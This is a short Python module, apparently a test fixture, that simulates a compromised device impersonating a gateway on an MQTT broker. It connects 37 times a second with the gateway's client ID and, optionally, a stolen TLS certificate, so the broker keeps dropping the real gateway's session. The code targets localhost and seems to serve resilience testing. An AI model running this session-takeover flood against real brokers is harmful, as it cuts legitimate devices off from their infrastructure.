"""A stolen board that knocks on the broker in the name of the gateway, many times a second."""

import socket
import ssl
import threading
import time
from contextlib import suppress
from typing import Final

from callpoint_gateway.transport.mqtt_packets import connect

#: What was once enough to keep the gateway deaf.
PER_S: Final = 37
_ANSWER_S: Final = 2.0
_CONNACK: Final = 4  # bytes


class Takeover:
    """``start``, and ``stop`` when it is enough; ``welcomed`` counts what the broker accepted."""

    def __init__(self, port: int, client_id: str, tls: ssl.SSLContext | None) -> None:
        """``client_id``: whose session is wanted; ``tls``: with the stolen certificate."""
        self._port = port
        self._hello = connect(client_id, 0, kept=False)
        self._tls = tls
        self.welcomed = 0
        self._stopping = threading.Event()
        self._thread = threading.Thread(target=self._run, name="takeover")

    def start(self) -> None:
        """Begin."""
        self._thread.start()

    def stop(self) -> None:
        """End."""
        self._stopping.set()
        self._thread.join()

    def _run(self) -> None:
        due_s = time.monotonic()
        # The connection before is closed by the broker, when it gives the session to this one.
        previous: socket.socket | None = None
        while not self._stopping.wait(max(0.0, due_s - time.monotonic())):
            due_s += 1 / PER_S
            with suppress(OSError):
                link = self._connected()
                if previous is not None:
                    previous.close()
                previous = link
        if previous is not None:
            previous.close()

    def _connected(self) -> socket.socket:
        link = socket.create_connection(("127.0.0.1", self._port), _ANSWER_S)
        try:
            if self._tls is not None:
                link = self._tls.wrap_socket(link, server_hostname="127.0.0.1")
            link.sendall(self._hello)
            answer = link.recv(_CONNACK)
        except OSError:
            link.close()
            raise
        self.welcomed += len(answer) == _CONNACK and not answer[-1]
        return link
